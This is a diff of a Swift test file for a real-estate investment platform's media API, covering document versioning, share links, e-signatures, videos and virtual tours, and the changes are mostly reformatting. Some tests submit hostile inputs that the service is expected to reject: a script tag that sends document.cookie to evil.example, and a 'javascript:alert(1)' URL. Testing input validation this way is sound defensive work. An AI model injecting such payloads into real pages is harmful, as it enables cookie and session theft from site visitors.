@@ -1,8 +1,8 @@
 import Foundation
 import Models
 import NIOHTTP1
-import Testing
 import TestSupport
+import Testing
 
 @testable import PropertiesService
 
@@ -14,7 +14,8 @@ import TestSupport
             let sponsor = try await media.base.token(.sponsor)
             let id = try await media.property(sponsor: sponsor)
             let path = "/v1/properties/\(id)/documents?name=Offering%20Memorandum&type=presentation&category=investment&visibility=investors"
-            let first = try await media.raw.upload(path + "&file_name=memo.pdf", MediaSamples.pdf("v1"), contentType: "application/pdf", token: sponsor)
+            let first = try await media.raw.upload(
+                path + "&file_name=memo.pdf", MediaSamples.pdf("v1"), contentType: "application/pdf", token: sponsor)
             #expect(first.status == 201, "\(first.text)")
             #expect(first["version"] == 1)
             #expect(first["parent_document_id"] == .null)
@@ -43,13 +44,18 @@ import TestSupport
             let old = try await media.raw.get("/v1/media/documents/\(firstID)", token: sponsor)
             #expect(old.bytes == MediaSamples.pdf("v1"))
             #expect(old.headers.first(name: "Content-Disposition") == "attachment; filename=\"memo.pdf\"")
-            #expect(try await media.base.events().filter { $0.hasPrefix("media.") } == ["media.document_version_added", "media.document_version_added"])
+            #expect(
+                try await media.base.events().filter { $0.hasPrefix("media.") } == ["media.document_version_added", "media.document_version_added"])
             // Anonymous callers see no investors-only documents; a lying PDF is refused.
             #expect(try await media.raw.get("/v1/media/documents/\(secondID)").status == 404)
-            let lie = try await media.raw.upload("/v1/properties/\(id)/documents?name=x", MediaSamples.png(width: 1, height: 1), contentType: "application/pdf", token: sponsor)
+            let lie = try await media.raw.upload(
+                "/v1/properties/\(id)/documents?name=x", MediaSamples.png(width: 1, height: 1), contentType: "application/pdf", token: sponsor)
             #expect(lie.status == 415)
             #expect(try await media.raw.upload("/v1/properties/\(id)/documents", MediaSamples.pdf("x"), token: sponsor).status == 422)
-            #expect(try await media.raw.upload("/v1/properties/\(id)/documents?name=x", MediaSamples.pdf("x"), token: try await media.base.token(.investor)).status == 403)
+            #expect(
+                try await media.raw.upload(
+                    "/v1/properties/\(id)/documents?name=x", MediaSamples.pdf("x"), token: try await media.base.token(.investor)
+                ).status == 403)
         }
     }
 
@@ -112,7 +118,10 @@ import TestSupport
             #expect(opened.bytes == pdf)
             #expect(opened.headers.first(name: "Content-Type") == "application/pdf")
             // Only the hash is kept; a wrong secret for a real share id is no share at all.
-            #expect(try await media.base.sql("SELECT count(*)::text FROM media.document_shares WHERE token_hash = '\(ShareToken.hash(String(token.split(separator: ".")[1])))'") == ["1"])
+            #expect(
+                try await media.base.sql(
+                    "SELECT count(*)::text FROM media.document_shares WHERE token_hash = '\(ShareToken.hash(String(token.split(separator: ".")[1])))'"
+                ) == ["1"])
             #expect(try await media.raw.get("/v1/media/shares/\(token.split(separator: ".")[0]).\(String(repeating: "A", count: 43))").status == 404)
 
             // Expired: refused with 410.
@@ -126,14 +135,18 @@ import TestSupport
             let secondURL = try #require(second.string("url"))
             let shareID = try #require(second.string("id"))
             #expect(try await media.raw.get(secondURL).status == 200)
-            #expect(try await media.base.client.send(.DELETE, "/v1/documents/\(documentID)/shares/\(shareID)", token: try await media.base.token(.sponsor)).status == 404)
+            #expect(
+                try await media.base.client.send(
+                    .DELETE, "/v1/documents/\(documentID)/shares/\(shareID)", token: try await media.base.token(.sponsor)
+                ).status == 404)
             #expect(try await media.base.client.send(.DELETE, "/v1/documents/\(documentID)/shares/\(shareID)", token: sponsor).status == 204)
             let revoked = try await media.raw.get(secondURL)
             #expect(revoked.status == 410)
             #expect(revoked.text.contains("share-revoked"))
             #expect(try await media.base.sql("SELECT access_count::text FROM media.document_shares ORDER BY id") == ["1", "1"])
 
-            let past = try await media.base.client.post("/v1/documents/\(documentID)/shares", #"{"expires_at": "2020-01-01T00:00:00Z"}"#, token: sponsor)
+            let past = try await media.base.client.post(
+                "/v1/documents/\(documentID)/shares", #"{"expires_at": "2020-01-01T00:00:00Z"}"#, token: sponsor)
             #expect(past.status == 422)
             #expect(past.text.contains(#""field":"expires_at""#))
         }
@@ -145,7 +158,8 @@ import TestSupport
             let id = try await media.property(sponsor: sponsor)
             let investorID = UUID()
             let investor = try await media.base.token(.investor, user: investorID)
-            let document = try await media.raw.upload("/v1/properties/\(id)/documents?name=Subscription%20Agreement&visibility=private", MediaSamples.pdf("sub"), token: sponsor)
+            let document = try await media.raw.upload(
+                "/v1/properties/\(id)/documents?name=Subscription%20Agreement&visibility=private", MediaSamples.pdf("sub"), token: sponsor)
             let documentID = try #require(document.string("id"))
             #expect(try await media.raw.get("/v1/media/documents/\(documentID)", token: investor).status == 404)
 
@@ -155,17 +169,24 @@ import TestSupport
             #expect(share.status == 201, "\(share.text)")
             #expect(share.string("kind") == "user")
             #expect(share["token"] == nil)
-            #expect(try await media.base.client.post("/v1/documents/\(documentID)/shares", #"{"shared_with": "\#(investorID.uuidString.lowercased())"}"#, token: sponsor).status == 409)
+            #expect(
+                try await media.base.client.post(
+                    "/v1/documents/\(documentID)/shares", #"{"shared_with": "\#(investorID.uuidString.lowercased())"}"#, token: sponsor
+                ).status == 409)
             #expect(try await media.raw.get("/v1/media/documents/\(documentID)", token: investor).status == 200)
             let listed = try await media.base.client.get("/v1/properties/\(id)/documents", token: investor)
             guard case .array(let documents)? = listed["data"] else { throw Failure("no list") }
             #expect(documents.count == 1)
-            #expect(try await media.base.client.get("/v1/properties/\(id)/documents", token: try await media.base.token(.investor)).json["data"] == [])
+            #expect(
+                try await media.base.client.get("/v1/properties/\(id)/documents", token: try await media.base.token(.investor)).json["data"] == [])
 
             let shareID = try #require(share.string("id"))
             #expect(try await media.base.client.send(.DELETE, "/v1/documents/\(documentID)/shares/\(shareID)", token: sponsor).status == 204)
             #expect(try await media.raw.get("/v1/media/documents/\(documentID)", token: investor).status == 404)
-            #expect(try await media.base.events().filter { $0.hasPrefix("media.document_share") } == ["media.document_shared", "media.document_share_revoked"])
+            #expect(
+                try await media.base.events().filter { $0.hasPrefix("media.document_share") } == [
+                    "media.document_shared", "media.document_share_revoked",
+                ])
         }
     }
 
@@ -175,7 +196,8 @@ import TestSupport
             let id = try await media.property(sponsor: sponsor)
             let signerID = UUID()
             let signer = try await media.base.token(.investor, user: signerID)
-            let document = try await media.raw.upload("/v1/properties/\(id)/documents?name=Operating%20Agreement&requires_signature=true", MediaSamples.pdf("oa"), token: sponsor)
+            let document = try await media.raw.upload(
+                "/v1/properties/\(id)/documents?name=Operating%20Agreement&requires_signature=true", MediaSamples.pdf("oa"), token: sponsor)
             let documentID = try #require(document.string("id"))
             let body = #"{"signer_id": "\#(signerID.uuidString.lowercased())", "verification_method": "email"}"#
             // A private document: to anyone but its editors it does not exist.
@@ -201,7 +223,8 @@ import TestSupport
             #expect(signed.string("ip_address") == "127.0.0.1")
             #expect(signed["signed_at"] != .null)
             #expect(try await media.base.client.send(.PATCH, path, json: #"{"status":"declined"}"#, token: signer).status == 409)
-            #expect(try await media.base.events().filter { $0.hasPrefix("media.signature") } == ["media.signature_requested", "media.signature_answered"])
+            #expect(
+                try await media.base.events().filter { $0.hasPrefix("media.signature") } == ["media.signature_requested", "media.signature_answered"])
         }
     }
 
@@ -217,15 +240,22 @@ import TestSupport
             #expect(video.status == 201, "\(video.text)")
             #expect(video.string("status") == "active")
             let videoID = try #require(video.string("id"))
-            let renamed = try await media.base.client.send(.PATCH, "/v1/properties/\(id)/videos/\(videoID)", json: #"{"title":"Spring walkthrough"}"#, token: sponsor)
+            let renamed = try await media.base.client.send(
+                .PATCH, "/v1/properties/\(id)/videos/\(videoID)", json: #"{"title":"Spring walkthrough"}"#, token: sponsor)
             #expect(renamed.string("title") == "Spring walkthrough")
             #expect(renamed.string("streaming_url") == "https://video.example/w1")
             #expect(try await media.base.client.post("/v1/properties/\(id)/videos", #"{"title":"No URL"}"#, token: sponsor).status == 422)
-            #expect(try await media.base.client.post("/v1/properties/\(id)/videos", #"{"streaming_url":"javascript:alert(1)"}"#, token: sponsor).status == 422)
-            #expect(try await media.base.client.post("/v1/properties/\(id)/videos", #"{"streaming_url":"https://v.example/x"}"#, token: try await media.base.token(.investor)).status == 403)
+            #expect(
+                try await media.base.client.post("/v1/properties/\(id)/videos", #"{"streaming_url":"javascript:alert(1)"}"#, token: sponsor).status
+                    == 422)
+            #expect(
+                try await media.base.client.post(
+                    "/v1/properties/\(id)/videos", #"{"streaming_url":"https://v.example/x"}"#, token: try await media.base.token(.investor)
+                ).status == 403)
 
             let tour = try await media.base.client.post(
-                "/v1/properties/\(id)/virtual-tours", #"{"tour_type":"matterport","matterport_id":"SxQL3iGyoDo","has_dollhouse":true}"#, token: sponsor
+                "/v1/properties/\(id)/virtual-tours", #"{"tour_type":"matterport","matterport_id":"SxQL3iGyoDo","has_dollhouse":true}"#,
+                token: sponsor
             )
             #expect(tour.status == 201, "\(tour.text)")
             #expect(tour["has_dollhouse"] == true)
@@ -246,7 +276,8 @@ import TestSupport
             let id = try await media.property(sponsor: sponsor)
             let path = "/v1/properties/\(id)/virtual-tours"
             let html = try await media.base.client.post(
-                path, #"{"tour_type":"video","embed_code":"<script>document.location='https://evil.example/?'+document.cookie</script>"}"#, token: sponsor
+                path, #"{"tour_type":"video","embed_code":"<script>document.location='https://evil.example/?'+document.cookie</script>"}"#,
+                token: sponsor
             )
             #expect(html.status == 422)
             #expect(html.text.contains(#""field":"embed_code""#), "\(html.text)")
@@ -259,7 +290,8 @@ import TestSupport
             #expect(badID.status == 422)
             #expect(badID.text.contains(#""field":"matterport_id""#))
 
-            let kuula = try await media.base.client.post(path, #"{"tour_type":"360_photos","tour_url":"https://kuula.co/share/5Xc?fs=1&vr=0"}"#, token: sponsor)
+            let kuula = try await media.base.client.post(
+                path, #"{"tour_type":"360_photos","tour_url":"https://kuula.co/share/5Xc?fs=1&vr=0"}"#, token: sponsor)
             #expect(kuula.status == 201, "\(kuula.text)")
             #expect(kuula.string("tour_url") == "https://kuula.co/share/5Xc?fs=1&vr=0")
             #expect(
@@ -330,20 +362,29 @@ import TestSupport
             let png = MediaSamples.png(width: 5, height: 5)
             let photo = try await media.raw.upload("/v1/properties/\(id)/photos", png, token: sponsor)
             record("POST", "/v1/properties/{id}/photos", photo)
-            record("POST", "/v1/properties/{id}/photos", try await media.raw.upload("/v1/properties/\(id)/photos", png, contentType: "image/gif", token: sponsor))
+            record(
+                "POST", "/v1/properties/{id}/photos",
+                try await media.raw.upload("/v1/properties/\(id)/photos", png, contentType: "image/gif", token: sponsor))
             record("POST", "/v1/properties/{id}/photos", try await media.raw.upload("/v1/properties/\(id)/photos", png))
             let photoID = try #require(photo.string("id"))
             record("GET", "/v1/properties/{id}/photos", try await media.base.client.get("/v1/properties/\(id)/photos"))
             record("GET", "/v1/properties/{id}/photos/{photo_id}", try await media.base.client.get("/v1/properties/\(id)/photos/\(photoID)"))
-            record("PATCH", "/v1/properties/{id}/photos/{photo_id}", try await media.base.client.send(.PATCH, "/v1/properties/\(id)/photos/\(photoID)", json: #"{"caption":"c"}"#, token: sponsor))
+            record(
+                "PATCH", "/v1/properties/{id}/photos/{photo_id}",
+                try await media.base.client.send(.PATCH, "/v1/properties/\(id)/photos/\(photoID)", json: #"{"caption":"c"}"#, token: sponsor))
             let content = "/v1/media/photos/\(photoID)"
             record("GET", "/v1/media/photos/{photo_id}", try await media.raw.get(content))
             record("GET", "/v1/media/photos/{photo_id}", try await media.raw.get(content, headers: [("Range", "bytes=0-1")]))
             record("GET", "/v1/media/photos/{photo_id}", try await media.raw.get(content, headers: [("Range", "bytes=9999-")]))
-            record("GET", "/v1/media/photos/{photo_id}", try await media.raw.get(content, headers: [("If-None-Match", "\"\(MediaSamples.sha256(png))\"")]))
-            let upload = try await media.raw.upload("/v1/properties/\(id)/documents?name=Memo&visibility=public", MediaSamples.pdf("m"), token: sponsor)
+            record(
+                "GET", "/v1/media/photos/{photo_id}",
+                try await media.raw.get(content, headers: [("If-None-Match", "\"\(MediaSamples.sha256(png))\"")]))
+            let upload = try await media.raw.upload(
+                "/v1/properties/\(id)/documents?name=Memo&visibility=public", MediaSamples.pdf("m"), token: sponsor)
             record("POST", "/v1/properties/{id}/documents", upload)
-            record("POST", "/v1/properties/{id}/documents", try await media.raw.upload("/v1/properties/\(id)/documents", MediaSamples.pdf("m"), token: sponsor))
+            record(
+                "POST", "/v1/properties/{id}/documents",
+                try await media.raw.upload("/v1/properties/\(id)/documents", MediaSamples.pdf("m"), token: sponsor))
             let documentID = try #require(upload.string("id"))
             record("GET", "/v1/properties/{id}/documents", try await media.base.client.get("/v1/properties/\(id)/documents"))
             record("GET", "/v1/documents/{id}", try await media.base.client.get("/v1/documents/\(documentID)"))
@@ -353,30 +394,48 @@ import TestSupport
             record("POST", "/v1/documents/{id}/shares", share)
             record("GET", "/v1/documents/{id}/shares", try await media.base.client.get("/v1/documents/\(documentID)/shares", token: sponsor))
             record("GET", "/v1/media/shares/{token}", try await media.raw.get(try #require(share.string("url"))))
-            record("DELETE", "/v1/documents/{id}/shares/{share_id}", try await media.base.client.send(.DELETE, "/v1/documents/\(documentID)/shares/\(try #require(share.string("id")))", token: sponsor))
+            record(
+                "DELETE", "/v1/documents/{id}/shares/{share_id}",
+                try await media.base.client.send(.DELETE, "/v1/documents/\(documentID)/shares/\(try #require(share.string("id")))", token: sponsor))
             record("GET", "/v1/media/shares/{token}", try await media.raw.get(try #require(share.string("url"))))
-            let signature = try await media.base.client.post("/v1/documents/\(documentID)/signature-requests", #"{"signer_id":"\#(signerID.uuidString)"}"#, token: sponsor)
+            let signature = try await media.base.client.post(
+                "/v1/documents/\(documentID)/signature-requests", #"{"signer_id":"\#(signerID.uuidString)"}"#, token: sponsor)
             record("POST", "/v1/documents/{id}/signature-requests", signature)
-            record("GET", "/v1/documents/{id}/signature-requests", try await media.base.client.get("/v1/documents/\(documentID)/signature-requests", token: sponsor))
-            record("PATCH", "/v1/documents/{id}/signature-requests/{signature_id}", try await media.base.client.send(
-                .PATCH, "/v1/documents/\(documentID)/signature-requests/\(try #require(signature.string("id")))", json: #"{"status":"declined"}"#,
-                token: try await media.base.token(.investor, user: signerID)
-            ))
+            record(
+                "GET", "/v1/documents/{id}/signature-requests",
+                try await media.base.client.get("/v1/documents/\(documentID)/signature-requests", token: sponsor))
+            record(
+                "PATCH", "/v1/documents/{id}/signature-requests/{signature_id}",
+                try await media.base.client.send(
+                    .PATCH, "/v1/documents/\(documentID)/signature-requests/\(try #require(signature.string("id")))", json: #"{"status":"declined"}"#,
+                    token: try await media.base.token(.investor, user: signerID)
+                ))
             let video = try await media.base.client.post("/v1/properties/\(id)/videos", #"{"streaming_url":"https://v.example/1"}"#, token: sponsor)
             record("POST", "/v1/properties/{id}/videos", video)
             record("GET", "/v1/properties/{id}/videos", try await media.base.client.get("/v1/properties/\(id)/videos"))
-            record("PATCH", "/v1/properties/{id}/videos/{item_id}", try await media.base.client.send(.PATCH, "/v1/properties/\(id)/videos/\(try #require(video.string("id")))", json: #"{"title":"t"}"#, token: sponsor))
-            let tour = try await media.base.client.post("/v1/properties/\(id)/virtual-tours", #"{"tour_type":"360_photos","tour_url":"https://kuula.co/share/collection/7Fk9Q"}"#, token: sponsor)
+            record(
+                "PATCH", "/v1/properties/{id}/videos/{item_id}",
+                try await media.base.client.send(
+                    .PATCH, "/v1/properties/\(id)/videos/\(try #require(video.string("id")))", json: #"{"title":"t"}"#, token: sponsor))
+            let tour = try await media.base.client.post(
+                "/v1/properties/\(id)/virtual-tours", #"{"tour_type":"360_photos","tour_url":"https://kuula.co/share/collection/7Fk9Q"}"#,
+                token: sponsor)
             record("POST", "/v1/properties/{id}/virtual-tours", tour)
             record("GET", "/v1/properties/{id}/virtual-tours", try await media.base.client.get("/v1/properties/\(id)/virtual-tours"))
-            record("DELETE", "/v1/properties/{id}/virtual-tours/{item_id}", try await media.base.client.send(.DELETE, "/v1/properties/\(id)/virtual-tours/\(try #require(tour.string("id")))", token: sponsor))
-            record("DELETE", "/v1/properties/{id}/photos/{photo_id}", try await media.base.client.send(.DELETE, "/v1/properties/\(id)/photos/\(photoID)", token: sponsor))
-            #expect(exchanges.map(\.2) == [
-                201, 415, 401, 200, 200, 200, 200, 206, 416, 304, 201, 422, 200, 200, 200, 200, 201, 200, 200, 204, 410, 201, 200, 200,
-                201, 200, 200, 201, 200, 204, 204,
-            ])
+            record(
+                "DELETE", "/v1/properties/{id}/virtual-tours/{item_id}",
+                try await media.base.client.send(.DELETE, "/v1/properties/\(id)/virtual-tours/\(try #require(tour.string("id")))", token: sponsor))
+            record(
+                "DELETE", "/v1/properties/{id}/photos/{photo_id}",
+                try await media.base.client.send(.DELETE, "/v1/properties/\(id)/photos/\(photoID)", token: sponsor))
+            #expect(
+                exchanges.map(\.2) == [
+                    201, 415, 401, 200, 200, 200, 200, 206, 416, 304, 201, 422, 200, 200, 200, 200, 201, 200, 200, 204, 410, 201, 200, 200,
+                    201, 200, 200, 201, 200, 204, 204,
+                ])
             for (method, path, status, contentType, body) in exchanges {
-                let found = OpenAPIConformance.problems(in: document, method: method, path: path, status: status, contentType: contentType, body: body)
+                let found = OpenAPIConformance.problems(
+                    in: document, method: method, path: path, status: status, contentType: contentType, body: body)
                 #expect(found.isEmpty, "\(found)")
             }
             // Issue 11 #18: videos' and tours' unset fields are null, which their schemas must allow.
@@ -385,7 +444,8 @@ import TestSupport
             )
             exchanges.append(("POST", "/v1/properties/{id}/virtual-tours", fullTour.status, "", fullTour.text))
             exchanges.append(("GET", "/v1/properties/{id}/videos", 200, "", try await media.base.client.get("/v1/properties/\(id)/videos").text))
-            exchanges.append(("GET", "/v1/properties/{id}/virtual-tours", 200, "", try await media.base.client.get("/v1/properties/\(id)/virtual-tours").text))
+            exchanges.append(
+                ("GET", "/v1/properties/{id}/virtual-tours", 200, "", try await media.base.client.get("/v1/properties/\(id)/virtual-tours").text))
             for (method, path, status, _, body) in exchanges where path.contains("/videos") || path.contains("/virtual-tours") {
                 guard let schema = OpenAPIConformance.responseSchema(in: document, method: method, path: path, status: status) else { continue }
                 let value = try JSONDecoder().decode(JSONValue.self, from: Data(body.utf8))
